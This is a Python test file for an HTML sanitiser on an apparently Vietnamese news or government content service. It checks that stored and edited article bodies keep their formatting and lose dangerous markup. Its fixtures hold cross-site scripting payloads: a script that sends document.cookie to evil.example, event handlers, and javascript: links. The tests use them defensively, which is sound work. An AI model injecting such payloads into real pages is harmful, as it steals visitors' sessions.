"""Article bodies are sanitised on the way in: no script, no handlers, no dangerous URLs."""

from __future__ import annotations

from content.sanitize import clean_html
from tests.content.conftest import ARTICLE, if_match

NASTY = (
    '<p onclick="steal()">Thông báo <strong>quan trọng</strong> <em>về</em> VNeID.</p>'
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
    "<style>body{display:none}</style>"
    '<img src="https://congdanso.daklak.gov.vn/anh/vneid.png" alt="VNeID" onerror="alert(1)">'
    '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="payload">'
    '<img src="http://khong-an-toan.example/a.png" alt="http">'
    '<a href="javascript:alert(1)">bấm vào đây</a> '
    '<a href="https://vneid.gov.vn" target="_blank" style="color:red">Cổng VNeID</a>'
    "<ul><li>Mục một</li><li>Mục hai</li></ul><!-- ghi chú nội bộ -->"
)


def test_the_stored_body_keeps_formatting_and_drops_everything_dangerous(client, writer):
    response = client.post(
        "/staff/content/articles", headers=writer["headers"], json={**ARTICLE, "body_html": NASTY}
    )
    assert response.status_code == 201, response.json
    body = response.json["body_html"]
    for gone in ("<script", "document.cookie", "<style", "display:none", "onclick", "onerror", "javascript:",
                 "data:", "http://khong-an-toan", "style=", "target=", "ghi chú nội bộ"):  # fmt: skip
        assert gone not in body, gone
    for kept in ("<strong>quan trọng</strong>", "<em>về</em>", "<ul><li>Mục một</li>",
                 'src="https://congdanso.daklak.gov.vn/anh/vneid.png"', 'alt="VNeID"',
                 '<a href="https://vneid.gov.vn" rel="noopener">Cổng VNeID</a>', "bấm vào đây"):  # fmt: skip
        assert kept in body, kept


def test_a_body_with_nothing_left_after_cleaning_is_refused(client, writer):
    response = client.post(
        "/staff/content/articles",
        headers=writer["headers"],
        json={**ARTICLE, "body_html": "<script>alert(1)</script><style>p{}</style>"},
    )
    assert response.status_code == 422
    assert response.json["code"] == "empty_body"


def test_edits_are_sanitised_too(client, writer, create_article):
    article = create_article()
    edited = client.patch(
        f"/staff/content/articles/{article['id']}",
        headers=if_match(writer["headers"], f"/staff/content/articles/{article['id']}", 1),
        json={
            "body_html": '<p>Mới</p><iframe src="https://x.example"></iframe><svg onload="x()"></svg>',
        },
    )
    assert edited.status_code == 200
    assert edited.json["body_html"] == "<p>Mới</p>"


def test_links_must_be_absolute_http_or_https():
    cleaned = clean_html(
        '<a href="http://a.example/x">a</a><a href="/tuong-doi">b</a><a href="vbscript:x">c</a>'
        '<a href="mailto:x@y.vn">d</a><a href=" JaVaScRiPt:alert(1)">e</a>'
    )
    assert cleaned == (
        '<a href="http://a.example/x" rel="noopener">a</a><a rel="noopener">b</a><a rel="noopener">c</a>'
        '<a rel="noopener">d</a><a rel="noopener">e</a>'
    )
